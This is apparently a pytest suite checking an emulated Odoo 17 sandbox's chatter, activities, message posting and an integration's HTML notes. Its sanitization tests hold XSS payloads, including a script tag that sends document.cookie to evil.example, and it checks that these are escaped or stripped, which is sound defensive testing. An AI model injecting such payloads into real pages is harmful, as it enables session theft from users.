"""Chatter and activities on the sandbox as Odoo 17 serves them, and AIOM's notes in that chatter.

Rows cite the Odoo file and function they follow (odoo/odoo 17.0, addons/mail unless said).
The sandbox's clock is set for the tests that depend on "today".
"""

import xmlrpc.client
from datetime import datetime

import pytest

from actions.operations import note_html
from integrations.odoo.client import OdooClient
from integrations.odoo.config import OdooConfig
from integrations.odoo.sandbox import services

NOW = datetime(2026, 3, 10, 22, 30)  # UTC: already the 11th in Tokyo, still the 10th in Brussels


def fault_of(call):
    with pytest.raises(xmlrpc.client.Fault) as caught:
        call()
    return caught.value


@pytest.fixture
def clock(odoo_sandbox):
    odoo_sandbox.store.clock = lambda: NOW
    return NOW


@pytest.fixture
def lead(odoo):
    # mail_create_nolog: without the "… created" message (mail_thread.py create), so the thread starts empty
    return odoo.call("crm.lead", "create", {"name": "Chatter test deal", "type": "opportunity"},
                     context={"mail_create_nolog": True})


def _user(odoo, login):
    return odoo.call("res.users", "search", [["login", "=", login]])[0]


def _activity(odoo, lead, **values):
    model_id = odoo.call("ir.model", "search", [["model", "=", "crm.lead"]])[0]
    return odoo.call("mail.activity", "create", {"res_model_id": model_id, "res_id": lead, **values})


def _type(odoo, xmlid):
    module, name = xmlid.split(".")
    return odoo.call("ir.model.data", "search_read", [["module", "=", module], ["name", "=", name]], fields=["res_id"])[0]["res_id"]


class TestMixinFields:
    """mail_thread.py and mail_activity_mixin.py fields on every chatter model."""

    @pytest.mark.parametrize("model", ["res.partner", "account.move", "crm.lead", "project.task", "project.project", "hr.expense"])
    def test_chatter_models_describe_the_mixin_fields(self, odoo, model):
        fields = odoo.call(model, "fields_get", attributes=["type", "relation", "searchable", "store"])
        assert fields["message_ids"] == {"type": "one2many", "relation": "mail.message", "searchable": True, "store": False}
        assert fields["activity_ids"]["relation"] == "mail.activity"
        for fname, kind in [("activity_state", "selection"), ("activity_user_id", "many2one"), ("activity_type_id", "many2one"),
                            ("activity_date_deadline", "date"), ("activity_summary", "char")]:
            assert (fields[fname]["type"], fields[fname]["searchable"]) == (kind, True)

    def test_the_activity_state_cannot_be_searched_on_the_activity_itself(self, odoo):
        assert odoo.call("mail.activity", "fields_get", ["state"], attributes=["searchable"])["state"]["searchable"] is False

    def test_a_record_without_activities_reads_empty(self, odoo, lead):
        [record] = odoo.call("crm.lead", "read", [lead], fields=["activity_ids", "activity_state", "activity_user_id",
                                                                  "activity_date_deadline", "activity_summary"])
        assert record == {"id": lead, "activity_ids": [], "activity_state": False, "activity_user_id": False,
                          "activity_date_deadline": False, "activity_summary": False}

    def test_the_next_activity_is_the_earliest_and_the_state_the_most_urgent(self, odoo, clock, lead):
        later = _activity(odoo, lead, summary="Send the contract", date_deadline="2026-03-20", user_id=_user(odoo, "sofia"))
        sooner = _activity(odoo, lead, summary="Call the buyer", date_deadline="2026-03-09", user_id=_user(odoo, "lena"),
                           activity_type_id=_type(odoo, "mail.mail_activity_data_call"))
        [record] = odoo.call("crm.lead", "read", [lead], fields=["activity_ids", "activity_state", "activity_user_id",
                                                                  "activity_date_deadline", "activity_summary",
                                                                  "activity_type_id", "activity_type_icon"])
        assert record["activity_ids"] == [sooner, later]
        assert record["activity_state"] == "overdue"
        assert record["activity_user_id"][1] == "Lena Vogel"
        assert (record["activity_date_deadline"], record["activity_summary"]) == ("2026-03-09", "Call the buyer")
        assert (record["activity_type_id"][1], record["activity_type_icon"]) == ("Call", "fa-phone")

    def test_message_ids_are_the_records_messages_newest_first(self, odoo, lead):
        first = odoo.call("crm.lead", "message_post", [lead], body="First", message_type="comment")
        second = odoo.call("crm.lead", "message_post", [lead], body="Second", message_type="comment")
        odoo.call("mail.message", "create", {"model": "crm.lead", "res_id": lead, "body": "Only for one user",
                                             "message_type": "user_notification"})
        odoo.call("mail.message", "create", {"model": "res.partner", "res_id": lead, "body": "Another record, same id"})
        assert odoo.call("crm.lead", "read", [lead], fields=["message_ids"])[0]["message_ids"] == [second, first]


# deadline, assignee login (time zone), state at NOW — mail_activity.py _compute_state_from_date
STATES = [
    ("2026-03-10", "sofia", "today"),      # Europe/Brussels: 23:30 on the 10th
    ("2026-03-11", "sofia", "planned"),
    ("2026-03-10", "kenji", "overdue"),    # Asia/Tokyo: 07:30 on the 11th
    ("2026-03-11", "kenji", "today"),
    ("2026-03-09", "notz", "overdue"),     # no time zone: the server's (UTC) date
    ("2026-03-10", "notz", "today"),
]


@pytest.mark.parametrize("deadline,login,state", STATES)
def test_an_activity_is_due_against_its_assignees_today(odoo, clock, lead, deadline, login, state):
    tz = {"kenji": "Asia/Tokyo", "notz": False}.get(login)
    user = _user(odoo, login) if login == "sofia" else odoo.call("res.users", "create", {"name": login.title(), "login": login, "tz": tz})
    activity = _activity(odoo, lead, summary="Due?", date_deadline=deadline, user_id=user)
    assert odoo.call("mail.activity", "read", [activity], fields=["state"])[0]["state"] == state
    assert odoo.call("crm.lead", "read", [lead], fields=["activity_state"])[0]["activity_state"] == state


class TestSearches:
    """mail_activity_mixin.py ``_search_activity_*``."""

    @pytest.fixture
    def deals(self, odoo, clock):
        overdue, planned, quiet = (odoo.call("crm.lead", "create", {"name": name}) for name in ("Late", "Soon", "Quiet"))
        _activity(odoo, overdue, summary="Chase the signature", date_deadline="2026-03-01", user_id=_user(odoo, "sofia"))
        _activity(odoo, overdue, summary="Plan the kickoff", date_deadline="2026-04-01", user_id=_user(odoo, "lena"))
        _activity(odoo, planned, summary="Send the brochure", date_deadline="2026-03-25", user_id=_user(odoo, "marc"))
        return {"overdue": overdue, "planned": planned, "quiet": quiet}

    @pytest.mark.parametrize("leaf,expected", [
        (["activity_state", "=", "overdue"], {"overdue"}),
        (["activity_state", "in", ["planned", "today"]], {"planned"}),
        (["activity_state", "=", False], {"quiet"}),
        (["activity_state", "!=", "overdue"], {"planned", "quiet"}),
        (["activity_user_id.name", "=", "Sofia Janssens"], {"overdue"}),
        (["activity_user_id", "=", "Lena Vogel"], {"overdue"}),     # any activity, not only the next one
        (["activity_user_id", "=", False], {"quiet"}),
        (["activity_summary", "ilike", "kickoff"], {"overdue"}),
        (["activity_date_deadline", ">", "2026-03-20"], {"overdue", "planned"}),  # any activity's deadline
        (["activity_date_deadline", "=", False], {"quiet"}),
        (["activity_ids", "=", False], {"quiet"}),
    ])
    def test_search_by_activity(self, odoo, deals, leaf, expected):
        found = set(odoo.call("crm.lead", "search", [["id", "in", list(deals.values())], leaf]))
        assert found == {deals[name] for name in expected}

    def test_an_unsupported_operator_on_the_state_faults_as_in_odoo(self, odoo, deals):
        fault = fault_of(lambda: odoo.call("crm.lead", "search", [["activity_state", "ilike", "over"]]))
        assert fault.faultCode == 1 and "UnboundLocalError" in fault.faultString

    def test_searching_an_activity_by_state_is_silently_ignored(self, odoo, deals):
        """17's expression.py: a non-stored field without search method logs an error and drops the leaf."""
        every = odoo.call("mail.activity", "search_count", [])
        assert odoo.call("mail.activity", "search_count", [["state", "=", "overdue"]]) == every


class TestActivities:
    def test_a_create_over_rpc_keeps_the_field_defaults_not_the_types(self, odoo, clock, lead):
        """The type's summary, delay and default user are applied by the form's onchange
        (``_onchange_activity_type_id``) only."""
        call = _type(odoo, "mail.mail_activity_data_call")
        odoo.call("mail.activity.type", "write", [call], {"summary": "Call back", "default_user_id": _user(odoo, "sofia")})
        [kind] = odoo.call("mail.activity.type", "read", [call], fields=["delay_count", "delay_unit", "summary", "default_user_id"])
        assert (kind["delay_count"], kind["delay_unit"], kind["summary"]) == (2, "days", "Call back")
        activity = _activity(odoo, lead, activity_type_id=call)
        [read] = odoo.call("mail.activity", "read", [activity], fields=["date_deadline", "user_id", "summary", "display_name"])
        assert (read["date_deadline"], read["user_id"][0], read["summary"], read["display_name"]) == ("2026-03-10", 2, False, "Call")

    def test_the_document_name_is_kept_from_when_the_activity_was_made(self, odoo, lead):
        activity = _activity(odoo, lead, summary="Follow up")
        odoo.call("crm.lead", "write", [lead], {"name": "Renamed deal"})
        [read] = odoo.call("mail.activity", "read", [activity], fields=["res_name", "res_model", "res_id"])
        assert (read["res_name"], read["res_model"], read["res_id"]) == ("Chatter test deal", "crm.lead", lead)

    def test_archiving_the_record_deletes_its_activities(self, odoo, lead):
        activity = _activity(odoo, lead, summary="Soon gone")
        odoo.call("crm.lead", "write", [lead], {"active": False})
        assert odoo.call("mail.activity", "search_count", [["id", "=", activity]], context={"active_test": False}) == 0

    def test_feedback_posts_the_done_message_and_removes_the_activity(self, odoo, lead):
        lena = _user(odoo, "lena")
        activity = _activity(odoo, lead, summary="Call the buyer", note="<p>Ask about <b>Zwolle</b></p>", user_id=lena,
                             activity_type_id=_type(odoo, "mail.mail_activity_data_call"))
        message_id = odoo.call("mail.activity", "action_feedback", [activity], feedback="Reached Bram.\n<b>Quote</b> by Friday")
        assert odoo.call("mail.activity", "search_count", [["id", "=", activity]], context={"active_test": False}) == 0
        [message] = odoo.call("mail.message", "read", [message_id], fields=[
            "model", "res_id", "message_type", "subtype_id", "mail_activity_type_id", "author_id", "body"])
        assert (message["model"], message["res_id"], message["message_type"]) == ("crm.lead", lead, "notification")
        assert (message["subtype_id"][1], message["mail_activity_type_id"][1]) == ("Activities", "Call")
        assert message["author_id"][1].endswith("Mitchell Admin")
        body = message["body"]
        assert '<span class="fa fa-phone fa-fw"></span><span>Call</span> done' in body
        assert "(originally assigned to <span>Lena Vogel</span>)" in body and "<span>Call the buyer</span>" in body
        assert "Original note:</div><div><p>Ask about <b>Zwolle</b></p></div>" in body
        assert "Reached Bram.<br>&lt;b&gt;Quote&lt;/b&gt; by Friday" in body
        assert odoo.call("crm.lead", "read", [lead], fields=["message_ids"])[0]["message_ids"][0] == message_id

    def test_done_returns_the_message_and_a_kept_type_archives_the_activity(self, odoo, clock, lead):
        todo = _type(odoo, "mail.mail_activity_data_todo")
        odoo.call("mail.activity.type", "write", [todo], {"keep_done": True})
        activity = _activity(odoo, lead, summary="Check the budget", activity_type_id=todo)
        message_id = odoo.call("mail.activity", "action_done", [activity])
        assert isinstance(message_id, int) and message_id > 0
        [kept] = odoo.call("mail.activity", "read", [activity], fields=["active", "state", "date_done"])
        assert kept == {"id": activity, "active": False, "state": "done", "date_done": "2026-03-10"}
        assert odoo.call("crm.lead", "read", [lead], fields=["activity_ids"])[0]["activity_ids"] == []

    def test_feedback_must_be_text(self, odoo, lead):
        activity = _activity(odoo, lead, summary="Numbers")
        fault = fault_of(lambda: odoo.call("mail.activity", "action_feedback", [activity], feedback=42))
        assert fault.faultCode == 1 and "'int' object has no attribute 'split'" in fault.faultString
        assert odoo.call("mail.activity", "search_count", [["id", "=", activity]]) == 1


# keyword arguments, fault code, words — mail_thread.py message_post, _message_create, _notify_thread
REFUSED_POSTS = [
    ({"model": "crm.lead"}, 1, "ValueError: Those values are not supported when posting or notifying: model"),
    ({"subtype": "mail.mt_note"}, 1, "ValueError: Those values are not supported when posting or notifying: subtype"),
    ({"message_type": "user_notification"}, 1, "ValueError: Use message_notify to send a notification to an user."),
    ({"partner_ids": ["3"]}, 1, "ValueError: Posting a message should receive partners as a list of IDs (received ['3'])"),
    ({"attachment_ids": [[4, 1]]}, 1,
     "ValueError: Posting a message should receive attachments records as a list of IDs (received [[4, 1]])"),
    ({"attachments": ["notes.txt"]}, 1,
     "ValueError: Posting a message should receive attachments as a list of list or tuples (received None)"),
    ({"notify_by": "sms"}, 1, "ValueError: Those values are not supported when posting or notifying: notify_by"),
    ({"write_date": "2026-01-01 00:00:00"}, 1, "ValueError: Those values are not supported when posting or notifying: write_date"),
    ({"author_id": False}, 2, "Unable to send message, please configure the sender's email address."),
]


@pytest.mark.parametrize("extra,code,words", REFUSED_POSTS, ids=[next(iter(row[0])) for row in REFUSED_POSTS])
def test_message_post_refuses_what_odoo_refuses_and_posts_nothing(odoo, lead, extra, code, words):
    fault = fault_of(lambda: odoo.models.execute_kw(odoo.handle.db, odoo.uid, odoo.handle.password, "crm.lead",
                                                    "message_post", [[lead]], {"body": "Hello", **extra}))
    assert fault.faultCode == code and words in fault.faultString
    assert odoo.call("mail.message", "search_count", [["model", "=", "crm.lead"], ["res_id", "=", lead]]) == 0


def test_message_post_on_two_records_is_not_a_singleton(odoo, lead):
    other = odoo.call("crm.lead", "create", {"name": "Second deal"})
    fault = fault_of(lambda: odoo.call("crm.lead", "message_post", [lead, other], body="Hello"))
    assert fault.faultCode == 1 and f"ValueError: Expected singleton: crm.lead({lead}, {other})" in fault.faultString


def test_an_unknown_subtype_posts_a_note(odoo, lead):
    """``_xmlid_to_res_id`` answers False for an unknown external id, and message_post falls back on mt_note."""
    message_id = odoo.call("crm.lead", "message_post", [lead], body="Hello", subtype_xmlid="mail.no_such_subtype")
    assert odoo.call("mail.message", "read", [message_id], fields=["subtype_id"])[0]["subtype_id"][1] == "Note"


# body, body_is_html, what the chatter stores: 17's ``escape(body)``, then the Html field's
# odoo/tools/mail.py ``html_sanitize``
BODIES = [
    ("Reminder <sent>", False, "<p>Reminder &lt;sent&gt;</p>"),
    ("It's \"done\" & paid", False, "<p>It's \"done\" &amp; paid</p>"),
    ("line one\nline two\n\nnext paragraph", False, "<p>line one\nline two\n\nnext paragraph</p>"),
    ("<p>shown as tags</p>", False, "<p>&lt;p&gt;shown as tags&lt;/p&gt;</p>"),
    ("", False, ""),
    ("<p>One</p><p>Two<br>three</p>", True, "<p>One</p><p>Two<br>three</p>"),
    ("<p>Hi<script>alert(1)</script></p><img src=x onerror=alert(1)>", True, '<p>Hi</p><img src="x">'),
    ('<p><a href="javascript:alert(1)" onclick="steal()">link</a></p>', True, '<p><a href="">link</a></p>'),
    ("<p>Non-breaking\xa0space</p>", True, "<p>Non-breaking&nbsp;space</p>"),
]


@pytest.mark.parametrize("body,body_is_html,stored", BODIES)
def test_the_chatter_stores_a_body_as_odoo_does(odoo, lead, body, body_is_html, stored):
    message_id = odoo.call("crm.lead", "message_post", [lead], body=body, body_is_html=body_is_html, message_type="comment")
    assert odoo.call("mail.message", "read", [message_id], fields=["body"])[0]["body"] == stored


# AIOM's notes: the text an operation writes, the HTML it sends (actions/operations.py note_html)
NOTES = [
    ("Customer called.", "<p>Customer called.</p>"),
    ("Email sent by AIOM to a@b.example: Invoice\n\nHello Ann,\nplease pay.\n\nAIOM-REF:1",
     "<p>Email sent by AIOM to a@b.example: Invoice</p><p>Hello Ann,<br>please pay.</p><p>AIOM-REF:1</p>"),
    ("Windows\r\nline ends\r\n\r\nkept apart", "<p>Windows<br>line ends</p><p>kept apart</p>"),
    ("Spaces   \n \n  and blank lines\n\n\n", "<p>Spaces</p><p>and blank lines</p>"),
]


@pytest.mark.parametrize("text,sent", NOTES)
def test_a_note_reads_as_paragraphs_in_the_chatter(odoo_sandbox, text, sent):
    assert note_html(text) == sent
    with _client(odoo_sandbox) as client:
        deal = client.search("crm.lead", [], limit=1)[0]
        message_id = client.message_post("crm.lead", deal, note_html(text), html=True)
        assert client.read("mail.message", [message_id], ["body"])[0]["body"] == sent


@pytest.mark.parametrize("hostile", [
    "<script>document.location='https://evil.example/'+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</p><p onclick=alert(1)>click",
])
def test_hostile_text_in_a_note_stays_text(odoo_sandbox, hostile):
    with _client(odoo_sandbox) as client:
        deal = client.search("crm.lead", [], limit=1)[0]
        message_id = client.message_post("crm.lead", deal, note_html(f"Customer wrote: {hostile}"), html=True)
        body = client.read("mail.message", [message_id], ["body"])[0]["body"]
    assert body.startswith("<p>Customer wrote: ") and body.endswith("</p>") and body.count("<") == 2
    assert "&lt;" in body and "<script" not in body and "<img" not in body and "<svg" not in body


def test_the_client_knows_the_major_version_of_saas_releases_too(odoo_sandbox, monkeypatch):
    """``body_is_html`` exists from 17.0 (16 refuses it), so the client asks the version once."""
    with _client(odoo_sandbox) as client:
        assert client.server_major() == 17
    monkeypatch.setitem(services.VERSION_INFO, "server_version_info", ["saas~17", 2, 0, "final", 0, ""])
    with _client(odoo_sandbox) as client:
        assert client.server_major() == 17


def _client(handle):
    return OdooClient(OdooConfig(url=handle.url, db=handle.db, username=handle.login, secret=handle.api_key))
